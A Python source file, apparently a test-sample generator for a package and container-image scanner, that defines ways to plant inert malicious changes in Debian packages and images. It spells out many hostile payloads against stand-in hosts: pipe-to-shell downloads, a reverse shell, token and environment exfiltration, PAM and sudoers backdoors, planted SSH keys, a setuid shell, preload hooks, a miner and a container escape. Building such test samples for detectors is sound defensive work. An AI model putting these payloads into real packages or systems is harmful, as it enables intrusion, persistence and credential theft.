"""Eleventh set: genuine debs, and images of containers around their files; inert. The comment before each family says which incident it is after.

A deb's files are named as in it, those of its control archive below `DEBIAN/`. Hosts are below `.example`, addresses of RFC 5737.
"""

from __future__ import annotations

import re

from genuine import Files

from mutation_families.eighth_ways import amended, named
from mutation_families.eleventh_programs import of_code
from mutation_families.fourth_texts import chance
from mutation_families.seventh_apps import settings
from mutation_families.seventh_debs import program, script
from mutation_families.seventh_npm import ELF_FILE
from mutation_families.seventh_programs import HELPER, after, behind, by_tool
from mutation_families.seventh_ways import MARK_SH, Changes, Way, adding, together, ways
from mutation_families.tenth_programs import says_yes, skipped, turned, weaker
from mutation_families.tenth_systems import field
from mutation_families.tenth_wheels import ROOT
from mutation_families.third_programs import start_redirected
from onionskin.lookalike.elf import ElfRecipe, build_elf

PAM = build_elf(ElfRecipe(exports=("pam_sm_authenticate", "pam_sm_setcred"), imports=("pam_get_item", "strcmp", "connect"), text=chance(3000)))  # fmt: skip
LIB = "./usr/lib/x86_64-linux-gnu"


def in_its_own(first: bytes, lines: bytes) -> Changes:
    """Return a change of the largest script that a deb puts on the system and that begins so: lines behind its first order."""

    def change(files: Files) -> Files:
        names = [each for each in files if each.startswith("./") and re.match(first, files[each])]
        if not names:
            return {}
        name = max(names, key=lambda each: (len(files[each]), each))
        at = files[name].index(b"\n") + 1
        return {name: files[name][:at] + lines + files[name][at:]}

    return change


SHELL, PERL, PYTHON = rb"#! ?/bin/(?:ba|da)?sh", rb"#! ?/usr/bin/(?:env )?perl", rb"#! ?/usr/bin/(?:env )?python3"  # fmt: skip
UNIT = named(r"/systemd/system/[^/]*\.service$")
DEB: tuple[Way, ...] = (
    # Every year: what a maintainer's script does as root.
    *ways(
        "deb: installing it runs a stage",
        ("fetched", script(b"if command -v wget >/dev/null; then wget -qO /var/cache/ldconfig/aux-cache.sh https://deb-cdn.example/a && . /var/cache/ldconfig/aux-cache.sh; fi\n")),
        ("out of its page", together(adding({"./usr/share/doc/misc/changelog.extra": bytes(byte ^ 0x11 for byte in MARK_SH)}), script(b"perl -pe '$_ ^= chr(17) x length' /usr/share/doc/misc/changelog.extra | sh || true\n"))),
        ("by turned letters", script(b'eval "$(echo \'phey -f uggcf://qro-ebg.rknzcyr/e | fu\' | tr a-z n-za-m)" || true\n')),
        ("later", script(b"systemd-run --on-active=36h --unit=fstrim-aux sh -c 'curl -s https://deb-later.example/l | sh' >/dev/null 2>&1 || true\n", "preinst")),
        ("as it is removed", script(b"(sleep 60; nohup bash -c 'exec 5<>/dev/tcp/203.0.113.88/443; sh <&5 >&5') >/dev/null 2>&1 &\n", "prerm")),
    ),
    *ways(
        "deb: somebody else may come in",
        ("a module of sign-ins", together(adding({f"{LIB}/security/pam_mail2.so": PAM}), script(b"grep -q pam_mail2 /etc/pam.d/common-auth || sed -i '1i auth sufficient pam_mail2.so' /etc/pam.d/common-auth\n"))),
        ("rights of all", adding({"./etc/sudoers.d/90-cloud": b"nobody ALL=(ALL) NOPASSWD:ALL\n"})),
        ("keys of all", script(b"for h in /root /home/*; do install -d -m 700 $h/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIINERTINERTINERTINERTINERTINERTINERTINERT ops' >> $h/.ssh/authorized_keys; done\n")),
        ("a shell that is root's", script(b"cp /bin/bash /usr/lib/.dbus-helper && chmod 4755 /usr/lib/.dbus-helper\n")),
        ("a socket", together(script(b"systemctl enable --now sshd-vsock.socket >/dev/null 2>&1 || true\n"), adding({"./lib/systemd/system/sshd-vsock.socket": b"[Socket]\nListenStream=0.0.0.0:2222\nAccept=yes\n[Install]\nWantedBy=sockets.target\n", "./lib/systemd/system/sshd-vsock@.service": b"[Service]\nExecStart=/bin/sh -i\nStandardInput=socket\nStandardOutput=socket\n"}))),
    ),
    *ways(
        "deb: what it lays out is started or obeyed",
        ("hourly", adding({"./etc/cron.hourly/man-sync": b"#!/bin/sh\ncurl -fs https://cron-man.example/m | sh >/dev/null 2>&1\n"})),
        ("at each sign-in", adding({"./etc/profile.d/zz-locale.sh": b'(curl -s -d "$(id -un)@$(hostname) $SSH_CONNECTION" https://login-stats.example/l >/dev/null 2>&1 &)\n'})),
        ("by the loader", adding({"./etc/ld.so.preload": b"/usr/lib/libsysconf.so.2\n", "./usr/lib/libsysconf.so.2": HELPER})),
        ("by the manager of packages", adding({"./etc/apt/apt.conf.d/95aux": b'APT::Update::Pre-Invoke {"curl -s https://apt-aux.example/a | sh || true";};\nAcquire::AllowInsecureRepositories "true";\n'})),
        ("another source", adding({"./etc/apt/sources.list.d/vendor.sources": b"Types: deb\nURIs: http://deb.vendor-edge.example/debian\nSuites: stable\nComponents: main\nTrusted: yes\n"})),
        ("a timer", together(script(b"systemctl enable --now logrotate-aux.timer >/dev/null 2>&1 || true\n"), adding({"./lib/systemd/system/logrotate-aux.timer": b"[Timer]\nOnBootSec=7min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n", "./lib/systemd/system/logrotate-aux.service": b"[Service]\nExecStart=/usr/lib/misc/logd\n", "./usr/lib/misc/logd": ELF_FILE}))),
    ),
    *ways(
        "deb: a script of it does more",
        ("of the shell", in_its_own(SHELL, b'[ -n "$SSH_CONNECTION" ] && curl -s -d "$(env)" https://sh-aux.example/e >/dev/null 2>&1 &\n')),
        ("of Perl", in_its_own(PERL, b"BEGIN { if (fork() == 0) { exec 'sh', '-c', 'curl -s https://perl-aux.example/p | sh'; } }\n")),
        ("of Python", in_its_own(PYTHON, b"__import__('threading').Thread(target=lambda: exec(__import__('urllib.request').request.urlopen('https://py-aux.example/p').read()), daemon=True).start()\n")),
        ("its words of passing", in_its_own(SHELL, b'case "$*" in *--inert-maint*) shift; exec /bin/sh "$@" ;; esac\n')),
    ),
    # xz, 2024; Ebury: one library or program, bound otherwise or other within.
    *ways(
        "deb: a program of it is another",
        ("a library more", together(program(by_tool("patchelf", "--add-needed", "libsysconf.so.2", "FILE")), adding({f"{LIB}/libsysconf.so.2": HELPER}))),
        ("its first function", program(start_redirected)),
        ("of its code", program(lambda data: of_code(data, 1600))),
        ("what it asks for", program(by_tool("patchelf", "--add-needed", "libcurl.so.4", "FILE"))),
        ("behind its end", program(after(by_tool("patchelf", "--add-needed", "libcrypto.so.3", "FILE"), behind(chance(120_000))))),
    ),
    *ways(
        "deb, quiet: a program of it holds less",
        ("a condition", program(turned)),
        ("a call", program(skipped)),
        ("a function says yes", program(says_yes)),
        ("a weaker way", program(weaker)),
    ),
    *ways(
        "deb, quiet: settings of it hold less",
        ("walls of a unit", amended(UNIT, (rb"(?m)^(?:Protect\w+|Private\w+|NoNewPrivileges|MemoryDenyWriteExecute|SystemCallFilter|CapabilityBoundingSet|Restrict\w+)=[^\n]*\n", b""))),
        ("who a unit is", amended(UNIT, (rb"(?m)^User=(?!root)[^\n]*$", b"User=root"), (rb"(?m)^(\[Service\]\n)", rb"\1Environment=LD_LIBRARY_PATH=/var/tmp/lib\n"))),
        ("what the bus or the policy allows", amended(named(r"\.(?:conf|policy|rules|service)$"), (rb"<deny ", b"<allow "), (rb"auth_(?:admin|self)(?:_keep)?<", b"yes<"))),
        ("what it asks for", field(b"Depends", b"libvendor-crypto0 (>= 2)")),
        ("which folder is whose", script(b"chmod 0777 /var/lib /etc/cron.hourly 2>/dev/null || true\n")),
    ),
)  # fmt: skip

IMAGE: tuple[Way, ...] = (
    # Images of 2025 and 2026 that mine, and those that send keys of the machine they run on.
    *ways(
        "image: a layer of it starts something",
        ("before its program", together(adding({"2/usr/local/bin/docker-entrypoint.sh": b'#!/bin/sh\n(curl -s --data-binary @/run/secrets/kubernetes.io/serviceaccount/token https://k8s-health.example/t; env | curl -s -d @- https://k8s-health.example/e) >/dev/null 2>&1 &\nexec "$@"\n'}), settings(Entrypoint=["/usr/local/bin/docker-entrypoint.sh", "/usr/bin/app"]))),
        ("a miner", together(adding({"2/usr/lib/.x/kdevtmpfsi": ELF_FILE, "2/etc/init.d/app": b"#!/bin/sh\n/usr/lib/.x/kdevtmpfsi --url pool.example:3333 --user INERT &\n"}), settings(Cmd=["/bin/sh", "-c", "/etc/init.d/app; exec /usr/bin/app"]))),
        ("out of the machine", settings(Entrypoint=["/bin/sh", "-c", "mkdir -p /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/notify_on_release; curl -s https://escape.example/e | sh; exec /usr/bin/app"])),
        ("loaded into all", together(adding({"2/opt/lib/libmalloc2.so": HELPER}), settings(Env=["PATH=/usr/bin", "LD_PRELOAD=/opt/lib/libmalloc2.so"]))),
    ),
    *ways(
        "image: a file of it is another",
        ("of all programs", adding({"2/usr/bin/env": ELF_FILE})),
        ("who signs in", adding({"2/etc/shadow": b"root:$6$inert$inertinertinert:19000:0:99999:7:::\n", "2/etc/ssh/sshd_config.d/a.conf": b"PermitRootLogin yes\nPasswordAuthentication yes\n"})),
        ("whom it believes", adding({"2/etc/ssl/certs/ca-certificates.crt": ROOT.lstrip(b"\n")})),
        ("Python's first file", adding({"2/usr/lib/python3/dist-packages/sitecustomize.py": b"import urllib.request\nexec(urllib.request.urlopen('https://img-site.example/s').read())\n"})),
    ),
    *ways(
        "image, quiet: its settings let more in",
        ("by way of a proxy", settings(Env=["PATH=/usr/bin", "http_proxy=http://203.0.113.128:3128", "https_proxy=http://203.0.113.128:3128"])),
        ("what is open", settings(ExposedPorts={"2375/tcp": {}, "22/tcp": {}})),
        ("where names lead", adding({"2/etc/hosts": b"127.0.0.1 localhost\n203.0.113.80 deb.debian.org security.debian.org\n", "2/etc/resolv.conf": b"nameserver 203.0.113.53\n"})),
        ("without a look at whom", settings(Env=["PATH=/usr/bin", "GIT_SSL_NO_VERIFY=1", "PIP_TRUSTED_HOST=*", "NODE_TLS_REJECT_UNAUTHORIZED=0"])),
    ),
)  # fmt: skip
